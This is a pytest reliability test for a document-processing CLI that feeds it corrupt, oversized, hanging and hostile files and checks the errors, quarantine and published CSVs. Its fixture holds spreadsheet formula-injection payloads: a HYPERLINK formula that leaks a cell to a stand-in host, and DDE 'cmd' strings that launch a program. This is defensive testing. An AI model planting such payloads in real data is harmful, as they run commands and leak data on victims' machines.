"""Hostile and broken documents through the real `ituplans run` (a subprocess): one batch with every bad file
of the corpus, a good sample, a document whose reader hangs and a document with formula-like cells.

The run must finish; each bad document is reported in errors.csv (file, stage, reason) and quarantined with a
reason file; the good documents are published in output/latest. See docs/RELIABILITY.md.
"""

from __future__ import annotations

import re
import shutil

import pytest

from tests.reliability import corpus
from tests.reliability.conftest import assert_output_consistent, read_csv, run_cli

MAX_SECONDS = 20  # ITUPLANS_MAX_SECONDS for the batch; the hanging reader sleeps far longer
HANG_SECONDS = 600

# Cells a hostile (or just unusual) document can put at the start of a text cell; spreadsheets run them as formulas.
FORMULA_CELLS = {
    "- Competition for HR": '- =HYPERLINK("http://example.invalid/?x="&A1;"Competition for HR")',
    "- Late contributions": "- -2+3+cmd|' /C calc'!A0",
    "- Inappropriate forecasts": "- @SUM(1+1)*cmd|' /C calc'!A0",
}
FORMULA_VALUES = [v[2:] for v in FORMULA_CELLS.values()]
FORMULA_START = re.compile(r"^[=+\-@\t\r]")


@pytest.fixture(scope="module")
def batch(tmp_path_factory, cli_env):
    root = tmp_path_factory.mktemp("bad-inputs")
    docs = root / "docs"
    cases = corpus.build(docs, root / "work")
    shutil.copy(corpus.GOOD, docs / corpus.GOOD.name)
    (docs / "slow-reader-plan.txt").write_text("Plan\n\nA document whose reader hangs.\n", encoding="utf-8")
    text = (corpus.SAMPLES / "gs-operational-plan-2008-2011.txt").read_text(encoding="utf-8")
    for a, b in FORMULA_CELLS.items():
        assert a in text
        text = text.replace(a, b)
    (docs / "formula-cells-plan.txt").write_text(text, encoding="utf-8")
    out = root / "out"
    proc = run_cli(cli_env, "run", str(docs), "--out", str(out),
                   ITUPLANS_MAX_SECONDS=str(MAX_SECONDS), ITUPLANS_MAX_PAGES=str(corpus.MANY_PAGES - 10),
                   ITUPLANS_MAX_FILE_MB=str(corpus.OVERSIZE_MB),
                   ITUPLANS_FAULT_SLOW_READ=f"slow-reader:{HANG_SECONDS}")
    return {"cases": cases, "docs": docs, "out": out, "proc": proc}


def test_the_run_finishes_and_publishes(batch):
    proc = batch["proc"]
    assert proc.returncode == 0, proc.stdout[-3000:] + proc.stderr[-3000:]
    assert "Published" in proc.stdout and "`latest` points at it" in proc.stdout
    assert assert_output_consistent(batch["out"]) is not None


def test_every_bad_document_is_reported_with_file_stage_and_reason(batch):
    errors = read_csv(batch["out"] / "latest" / "errors.csv")
    assert list(errors.columns[:3]) == ["file", "stage", "reason"]
    for case in batch["cases"]:
        rows = errors[errors["file"] == case.name]
        if case.expect == "ok":
            assert rows.empty, (case.name, rows.to_dict("records"))
            continue
        assert len(rows) == 1, (case.name, errors.to_dict("records"))
        row = rows.iloc[0]
        # a readable document nothing was taken from is reported at extract (partial); a bad one fails at read
        assert row["stage"] == ("extract" if case.expect == "partial" else "read"), (case.name, row.to_dict())
        assert re.search(case.reason, row["reason"]), (case.name, row["reason"])
        assert case.name in batch["proc"].stdout  # and said on the console


def test_every_bad_document_is_quarantined_with_a_reason_file(batch):
    q = batch["out"] / "quarantine"
    errors = read_csv(batch["out"] / "latest" / "errors.csv")
    for case in batch["cases"]:
        copy, reason = q / case.name, q / f"{case.name}.reason.txt"
        if case.expect in ("ok", "partial"):
            assert not reason.exists(), case.name
            continue
        text = reason.read_text(encoding="utf-8")
        if case.name == "oversize.pdf":  # refused for its size: not copied (it would fill the disk)
            assert not copy.exists() and "copy: not made" in text
        else:
            assert copy.read_bytes() == (batch["docs"] / case.name).read_bytes(), case.name
        expected = errors[errors["file"] == case.name].iloc[0]["reason"]
        assert f"file: {case.name}\n" in text and "stage: read\n" in text and f"reason: {expected}\n" in text


def test_good_documents_are_published(batch):
    latest = batch["out"] / "latest"
    docs = read_csv(latest / "documents.csv").set_index("source_file")
    good = corpus.GOOD.name
    assert docs.loc[good, "status"] == "ok"
    objectives = read_csv(latest / "objectives.csv")
    assert (objectives["source_file"] == good).sum() == 31
    links = read_csv(latest / "output_objective_links.csv")
    assert (links["source_file"] == good).sum() == 131
    for case in batch["cases"]:
        if case.expect in ("ok", "partial"):
            assert docs.loc[case.name, "status"] == case.expect, case.name
        elif case.name in docs.index:  # identifiable documents get a documents row saying they failed
            assert docs.loc[case.name, "status"] == "failed", case.name


def test_legacy_encodings_give_the_same_rows_as_utf8(batch):
    objectives = read_csv(batch["out"] / "latest" / "objectives.csv")
    texts = {f: sorted(objectives.loc[objectives["source_file"] == f, "text"])
             for f in (corpus.GOOD.name, "strategic-plan-cp1252.txt", "strategic-plan-utf16.txt")}
    assert texts[corpus.GOOD.name] and all(t == texts[corpus.GOOD.name] for t in texts.values())
    assert "’" in corpus.GOOD.read_text(encoding="utf-8")  # the sample has cp1252-only characters (0x92)
    for path in (batch["out"] / "latest").glob("*.csv"):  # decoded, not replaced nor mojibake
        df = read_csv(path)
        if "source_file" in df.columns:
            df = df[df["source_file"].isin(list(texts))]
            for col in df.columns:
                assert not df[col].str.contains("\ufffd|â€", regex=True).any(), (path.name, col)


def test_huge_table_and_no_tables(batch):
    latest = batch["out"] / "latest"
    docs = read_csv(latest / "documents.csv").set_index("source_file")
    assert docs.loc["no-tables.txt", "tables"] == "0"
    wm = read_csv(latest / "work_months.csv")
    assert (wm["source_file"] == "huge-table.txt").sum() == 2 * corpus.HUGE_TABLE_ROWS
    dataset_rows = sum((read_csv(p)["source_file"] == "no-tables.txt").sum()
                       for p in latest.glob("*.csv") if p.name not in ("documents.csv", "errors.csv")
                       and "source_file" in read_csv(p).columns)
    assert dataset_rows == 0


def test_a_hanging_reader_hits_the_time_limit_and_the_batch_goes_on(batch):
    errors = read_csv(batch["out"] / "latest" / "errors.csv")
    (row,) = errors[errors["file"] == "slow-reader-plan.txt"].to_dict("records")
    assert row["stage"] == "read"
    assert f"took longer than the {MAX_SECONDS} s limit per document (ITUPLANS_MAX_SECONDS)" in row["reason"]
    assert (batch["out"] / "quarantine" / "slow-reader-plan.txt.reason.txt").exists()
    assert "slow-reader-plan.txt" in batch["proc"].stdout  # and the run did not wait for the reader's 600 s


def test_formula_like_cells_are_published_verbatim_and_samples_have_none(batch):
    """Policy (docs/RELIABILITY.md, "Opening the CSVs in a spreadsheet"): the datasets keep the documents' text
    exactly; nothing is prefixed. Text from the real samples never starts with = + - @ (list markers are
    stripped into structure); a hostile document's cells can, and are published as they are."""
    latest = batch["out"] / "latest"
    risks = read_csv(latest / "risks.csv")
    hostile = set(risks.loc[risks["source_file"] == "formula-cells-plan.txt", "risk"])
    assert set(FORMULA_VALUES) <= hostile
    clean_sources = {corpus.GOOD.name, "strategic-plan-cp1252.txt", "strategic-plan-utf16.txt", "no-tables.txt"}
    for path in latest.glob("*.csv"):
        df = read_csv(path)
        if "source_file" not in df.columns:
            continue
        df = df[df["source_file"].isin(clean_sources)]
        for col in df.columns:
            starts = df[col][df[col].str.match(FORMULA_START)]
            assert starts.empty, (path.name, col, starts.head().tolist())


def test_a_batch_of_only_bad_documents_does_not_move_latest(batch, cli_env, tmp_path):
    out = batch["out"]
    before = (out / "latest").resolve().name
    bad = tmp_path / "bad"
    bad.mkdir()
    for name in ("empty.pdf", "zip-bomb.docx", "scan.pdf"):
        shutil.copy(batch["docs"] / name, bad / name)
    proc = run_cli(cli_env, "run", str(bad), "--out", str(out))
    assert proc.returncode == 1, proc.stdout[-2000:] + proc.stderr[-2000:]
    assert "Every document failed" in proc.stderr
    assert (out / "latest").resolve().name == before
    assert_output_consistent(out)
    newest = sorted(p for p in (out / "runs").iterdir() if not p.name.startswith("."))[-1]
    assert newest.name != before  # written for inspection, not made latest
    assert set(read_csv(newest / "errors.csv")["file"]) == {"empty.pdf", "zip-bomb.docx", "scan.pdf"}
